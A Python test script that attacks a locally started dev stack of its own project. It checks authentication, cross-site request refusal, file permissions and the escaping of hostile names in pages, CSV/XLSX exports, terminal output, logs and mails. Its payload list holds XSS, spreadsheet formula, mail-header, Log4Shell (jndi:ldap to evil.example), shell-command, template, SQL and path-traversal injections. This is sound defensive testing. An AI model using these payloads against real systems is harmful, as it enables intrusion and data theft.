"""Tries what should be refused: `python -m finale_pipeline_tests.attack`.

Starts all of `finale dev` in a folder of its own, with an account whose names are hostile in every
field that people fill in Finale; asks every path of both ports as a stranger, as one who may only
read, and as a page of another site would make a browser ask; looks at its files as another user of
the machine, and at pages, exports, terminal, mails and logs for names that act instead of being
shown. Prints what was tried, refused and wrong.
"""

import csv
import io
import json
import re
import stat
import subprocess
import tempfile
import zipfile
from collections import Counter
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import httpx
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from finale_pipeline.sandbox.account import Account
from finale_pipeline.sandbox.handler import KEY, SECRET
from finale_pipeline.sandbox.invented import invented_account
from finale_pipeline.sandbox.records import encoded
from finale_pipeline.sandbox.server import SandboxServer
from finale_pipeline_tests.live import Live
from finale_pipeline_tests.processes import command

WRITE, READ = "w" * 32, "r" * 32
PUBLIC = ("/livez", "/readyz", "/style.css", "/server_info", "/runbooks/", "/decide/")
PAGES = (
    "/", "/plan", "/orders", "/orders/draft", "/syncs", "/outbox", "/search", "/products/x",
    "/runbooks/test", "/decide/x.y.z", "/metrics", "/openapi.json", "/livez", "/readyz",
    "/style.css", "/decide/x.%C2%B2.y", "/..%2f..%2fetc%2fpasswd",
)  # fmt: skip
DAGSTER = ("/", "/graphql", "/runs", "/assets", "/server_info", "/report_asset_materialization/x")
MUTATION = 'mutation{shutdownRepositoryLocation(repositoryLocationName:"x"){__typename}}'
FOREIGN = (
    {"Origin": "https://evil.example"},
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
    {"Host": "evil.example"},
)


ALPHABET = (
    "<script>alert('owned')</script>", "<img src=x onerror=alert('owned')>",
    "![](http://evil.example/x.png)", '=HYPERLINK("http://evil.example","click")',
    "box;=1+1;", "\uff1d1+1", "Tea\r\nBcc: everyone@evil.example", "\x1b[31m\x1b]0;owned\x07red",
    "\u202egnp.exe\u202c cake", "/../../../tmp/owned", "{{7*7}}%s{% include '/etc/passwd' %}",
    "'; DROP TABLE core.product; --", "\N{GRINNING FACE}" * 16, "[]:*?/\\", "x" * 300_000,
    "${jndi:ldap://evil.example/a}", "`touch /tmp/owned`", "a\tb\x85c\u2028d", "",
)  # fmt: skip
"""Names that attack whoever shows them: browsers, spreadsheets, terminals, mails, paths, logs."""
FILLED = {
    "product": ("internalName", "longDescription", "category", "manufacturerName",
                "universalProductCode"),
    "partygroup": ("groupName",),
    "facility": ("facilityName",),
}  # fmt: skip
"""Fields that people fill in Finale, by collection."""
ACTS = re.compile("[=+\\-@|%\uff1d\uff0b\uff0d\uff20]")
"""How a cell begins that a spreadsheet program computes."""
ACTING = ("<script>alert", "<img src=x", "\x1b", "\u202e", "\x07")


def hostile_account() -> Account:
    """Return an account in which each name is one of the alphabet."""
    account = invented_account(products=200, years=0.4)
    for collection, fields in FILLED.items():
        table = account.tables[collection]
        for number, place in enumerate(table.places()):
            names = {
                name: ALPHABET[(number + shift) % len(ALPHABET)]
                for shift, name in enumerate(fields)
            }
            record = {**table.record(place), **encoded(names)}
            stamp = datetime.fromisoformat(json.loads(record["lastUpdatedDate"]))
            table.put(int(stamp.replace(tzinfo=UTC).timestamp()), record, place=place)
    return account


@dataclass
class Result:
    """What was tried, by who tried, and what went wrong."""

    tried: Counter[str] = field(default_factory=Counter)
    wrong: list[str] = field(default_factory=list)

    def expect(self, who: str, what: str, *, refused: bool) -> None:
        """Note an attempt; one that was not refused is wrong."""
        self.tried[who] += 1
        if not refused:
            self.wrong.append(f"{who}: {what}")


def paths(api: httpx.Client) -> Iterator[tuple[str, str]]:
    """Yield method and path of all that our API declares, and of the pages."""
    document = api.get("/openapi.json", auth=("a", WRITE)).json()
    for path, methods in document["paths"].items():
        for method in methods:
            yield method.upper(), path.replace("{", "").replace("}", "")
    for path in PAGES:
        yield "GET", path
    for path in ("/", "/plan", "/orders/draft"):
        yield "POST", path


def attack(api: httpx.Client, ui: httpx.Client, home: Path) -> Result:
    """Try everything."""
    result = Result()
    for method, path in paths(api):
        _try_path(result, api, method, path)
    for path in DAGSTER:
        for method in ("GET", "POST"):
            _try_path(result, ui, method, path)
    answer = ui.get("/graphql", params={"query": MUTATION}, auth=("a", WRITE))
    result.expect("a foreign page", "a mutation by GET", refused=answer.status_code == 405)
    _try_websockets(result, ui)
    _try_files(result, home)
    return result


def _try_path(result: Result, client: httpx.Client, method: str, path: str) -> None:
    name = f"{client.base_url} {method} {path}"
    if not path.startswith(PUBLIC):
        answer = client.request(method, path)
        result.expect("a stranger", name, refused=answer.status_code == 401)
    for headers in FOREIGN:
        answer = client.request(method, path, headers=headers, auth=("a", WRITE))
        refused = answer.status_code in {400, 403}
        result.expect("a foreign page", f"{name} {headers}", refused=refused)
    answer = client.request(method, path, auth=("a", READ))
    is_well = answer.status_code in {403, 405, 415} if method != "GET" else answer.status_code < 500
    result.expect("a reader", f"{name} {answer.status_code}", refused=is_well)


def _try_websockets(result: Result, ui: httpx.Client) -> None:
    for headers in ({"Origin": "https://evil.example"}, {}):
        try:
            with connect(f"ws://127.0.0.1:{ui.base_url.port}/graphql", additional_headers=headers):
                result.expect("a foreign page", f"a WebSocket {headers}", refused=False)
        except InvalidStatus:
            result.expect("a foreign page", "a WebSocket", refused=True)


def _try_files(result: Result, home: Path) -> None:
    # The drill itself writes dev.log; PostgreSQL sees to its own folder.
    for file in home.rglob("*"):
        if not {"postgres", "dev.log"} & set(file.parts) and not file.is_symlink():
            mode = stat.S_IMODE(file.stat().st_mode)
            result.expect("another user", f"{file} {mode:o}", refused=not mode & 0o077)


def attack_by_names(result: Result, api: httpx.Client, live: Live) -> None:
    """Look for names that act, wherever they are shown."""
    given = api.get("/openapi.json", auth=("a", WRITE)).json()["paths"]
    read = {path: methods["get"] for path, methods in given.items() if "get" in methods}
    shown = [*PAGES, *read, *exports(read)]
    skus = live.rows("SELECT sku FROM core.product ORDER BY sku LIMIT 40")
    shown += [f"/products/{quote(str(sku), safe='')}" for (sku,) in skus]
    for path in dict.fromkeys(shown):
        answer = api.get(path, auth=("a", WRITE))
        kind = answer.headers.get("content-type", "")
        result.expect("a name", f"{path}: {answer.status_code}", refused=answer.status_code < 500)
        if "html" in kind:
            acts = [text for text in ACTING if text in answer.text]
            result.expect("a name on a page", f"{path}: {acts}", refused=not acts)
        if "csv" in kind:
            _try_cells(result, path, answer.content.decode("utf-8-sig"))
        if "spreadsheetml" in kind:
            _try_workbook(result, path, answer.content)
    for arguments in (["status"], ["alerts", "list"], ["explain", str(skus[0][0])],
                      ["orders", "draft", "--dry-run", "--format", "csv"]):  # fmt: skip
        ran = subprocess.run(
            command(*arguments), env=live.environment, cwd=live.home, capture_output=True,
            text=True, check=False, timeout=120,
        )  # fmt: skip
        said = ran.stdout + ran.stderr
        acts = [text for text in ("\x1b", "\x07", "\u202e", "Traceback") if text in said]
        result.expect("a name in a terminal", f"{arguments}: {acts}", refused=not acts)
    for file in (live.home / "logs").glob("*.log"):
        acts = [text for text in ("\x1b", "Bcc: everyone", "\u202e") if text in file.read_text()]
        result.expect("a name in a log", f"{file.name}: {acts}", refused=not acts)
    mails = live.rows("SELECT subject, body_text, body_html FROM ops.outbox")
    for subject, text, html in mails:
        acts = [a for a in ACTING if a in str(html)] + [a for a in ("\n", "\r") if a in subject]
        acts += [a for a in ("\x1b", "\u202e", "\nBcc:") if a in str(text)]
        result.expect("a name in a mail", f"{subject}: {acts}", refused=not acts)
    result.expect("a name", "a file outside of the home", refused=not Path("/tmp/owned").exists())  # noqa: S108


def exports(read: dict[str, dict[str, Any]]) -> Iterator[str]:
    """Yield the address of each file that can be had beside JSON."""
    for path, about in read.items():
        for parameter in about.get("parameters", ()):
            if parameter["name"] == "format":
                forms = re.findall(r"'(csv|xlsx|pdf)'", str(parameter["schema"]))
                yield from (f"{path}?format={form}" for form in forms)


def _try_cells(result: Result, path: str, text: str) -> None:
    """Read an export as programs with each kind of separator do."""
    for separator in ",;\t":
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=separator) for c in row]
        acts = [c for c in cells if ACTS.match(c.lstrip(' \t"')) and not _is_number(c)]
        result.expect("a name in a cell", f"{path} {separator!r}: {acts[:2]}", refused=not acts)


def _try_workbook(result: Result, path: str, content: bytes) -> None:
    """Look for formulas other than our own sums, and for what no reader of XML takes."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            root = ElementTree.fromstring(book.read(name))  # noqa: S314 - ours
            cells = [str(node.text) for node in root.iter() if node.tag.endswith("}f")]
            acts = [text for text in cells if not text.startswith(("SUBTOTAL(9,", "SUM("))]
            result.expect("a name in a cell", f"{path} {name}: {acts}", refused=not acts)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def main() -> None:
    """Start it, attack it, print a table."""
    with tempfile.TemporaryDirectory(prefix="finale") as folder:
        Path(folder).chmod(0o711)
        home = Path(folder) / "home"
        home.mkdir(mode=0o711)
        with ExitStack() as stack:
            sandbox = stack.enter_context(SandboxServer(hostile_account(), rate_limits=None))
            given = {
                "FINALE_API_TOKEN": WRITE, "FINALE_API_READ_TOKEN": READ,
                "FINALE_BASE_URL": sandbox.base_url, "FINALE_ACCOUNT": "demo",
                "FINALE_API_KEY": KEY, "FINALE_API_SECRET": SECRET,
            }  # fmt: skip
            live = stack.enter_context(Live(home, **given))
            urls = [f"http://127.0.0.1:{live.ports[name]}" for name in ("API", "UI")]
            for url, path in zip(urls, ("/readyz", "/server_info"), strict=True):
                live.until(lambda u=url + path: _answers(u), f"{url} answers")  # type: ignore[misc]
            with (
                httpx.Client(base_url=urls[0], trust_env=False, timeout=60) as api,
                httpx.Client(base_url=urls[1], trust_env=False, timeout=60) as ui,
            ):
                live.until(lambda: live.rows("SELECT FROM plan.forecast LIMIT 1"), "the first plan")
                result = attack(api, ui, home)
                attack_by_names(result, api, live)
    print("| who | tried |\n| --- | --- |")
    for who, number in result.tried.items():
        print(f"| {who} | {number} |")
    print(f"\nwrong: {len(result.wrong)}", *result.wrong, sep="\n  ")
    if result.wrong:
        raise SystemExit(1)


def _answers(url: str) -> bool:
    try:
        return httpx.get(url, trust_env=False).status_code == 200
    except httpx.HTTPError:
        return False


if __name__ == "__main__":
    main()
